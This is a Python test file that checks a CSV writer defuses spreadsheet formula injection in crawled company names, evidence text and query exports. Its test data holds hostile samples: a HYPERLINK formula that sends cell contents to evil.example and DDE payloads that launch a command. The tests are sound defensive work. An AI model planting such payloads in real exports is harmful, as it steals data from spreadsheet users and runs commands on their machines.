"""The one CSV writer neutralises spreadsheet formulas in every CSV the product writes.

Scan ``candidates.csv`` end to end: ``tests/test_tag_and_rank.py``; the app's
exports: ``tests/web/test_csv_export.py``.
"""
from __future__ import annotations

import csv
import io

import pytest

from csei_nlp.report.csvsafe import csv_text, safe_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klaster")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize("raw", [
    HYPERLINK, " =1+2", "  \t=1+2", "\n=1+2", "+1+2", "-1+2", DDE, "@SUM(A1:A2)", "\t=1", "\rx", "=", " -x",
    "\u00a0=1+2",  # no-break space is whitespace too
])
def test_formula_strings_are_neutralised(raw):
    assert safe_cell(raw) == "'" + raw


@pytest.mark.parametrize("v", [
    -0.25, -3, 0.5, 7, None, True, "", "Klaster Bory Lipiny", "a=b", "1-2", "https://x.pl/?a=-1",
    "-0.2500", "-3", "+3", "1e-05", "-1.5E+3", ".5", "zelenalhota.cz",
])
def test_plain_values_and_numbers_stay_as_they_are(v):
    assert safe_cell(v) == v


def test_csv_text_round_trip_keeps_numbers_numeric():
    text = csv_text([{"site": "x.pl", "name": HYPERLINK, "score": -0.25, "note": " =1+2", "rank": "-1"}],
                    ["site", "name", "score", "note", "rank"])
    (row,) = csv.DictReader(io.StringIO(text))
    assert row == {"site": "x.pl", "name": "'" + HYPERLINK, "score": "-0.25", "note": "' =1+2", "rank": "-1"}
    assert float(row["score"]) == -0.25


def _cand(**kw):
    from csei_nlp.rank import COMPONENTS
    from csei_nlp.taxonomy import FAMILIES

    ev = {"text": " =1+2 and more", "url": "https://x.pl/a", "prob": 0.9}
    c = {"rank": 1, "site": "x.pl", "name": HYPERLINK, "score": 0.42,
         "components": {k: 0.5 for k in COMPONENTS}, "country": "PL", "cee": True, "known": False,
         "known_name": "@known", "n_documents": 2, "languages": ["pl"],
         "tags": {f: [] for f in FAMILIES}, "evidence": {"innovation": {"social": [ev]}}}
    c.update(kw)
    return c


def test_scan_candidates_csv_neutralises_crawled_text():
    from csei_nlp.rank import COMPONENTS
    from csei_nlp.report.outputs import candidates_csv

    first = COMPONENTS[0]
    cand = _cand()
    cand["components"][first] = -0.125  # a (hypothetical) negative score is the product's own number
    (row,) = csv.DictReader(io.StringIO(candidates_csv([cand])))
    assert row["name"] == "'" + HYPERLINK
    assert row["top_evidence"] == "' =1+2 and more"
    assert row["known_name"] == "'@known"
    assert row[first] == "-0.125" and float(row[first]) == -0.125
    assert row["score"] == "0.42" and row["rank"] == "1"


def test_discover_feed_csv_neutralises_crawled_text():
    from csei_nlp.discover.feed import changes_csv

    rows = [{"change": "fell", "site": "x.pl", "name": HYPERLINK, "score": -0.5, "prev_score": 0.25, "rank": 3,
             "country": "PL", "cee": True, "languages": ["pl"], "tags": {}, "urls": ["https://x.pl/"],
             "top_evidence": " =1+2", "top_evidence_url": "=cmd|' /C calc'!A0", "n_documents": 2}]
    (row,) = csv.DictReader(io.StringIO(changes_csv(rows, "r1")))
    assert row["name"] == "'" + HYPERLINK
    assert row["top_evidence"] == "' =1+2"
    assert row["top_evidence_url"] == "'=cmd|' /C calc'!A0"
    assert row["score"] == "-0.5000" and float(row["score"]) == -0.5  # preformatted number stays a number
    assert row["prev_score"] == "0.2500" and row["rank"] == "3"


def test_discover_queries_csv_goes_through_the_writer():
    from csei_nlp.discover.queries import export

    rows = [{"lang": "pl", "cee": True, "countries": ["PL"], "kind": "x", "query": '=1+2 "klaster"',
             "labels": ["a"], "script": "LATIN"}]
    (row,) = csv.DictReader(io.StringIO(export(rows, "csv")))
    assert row["query"] == "'" + '=1+2 "klaster"' and row["cee"] == "1"
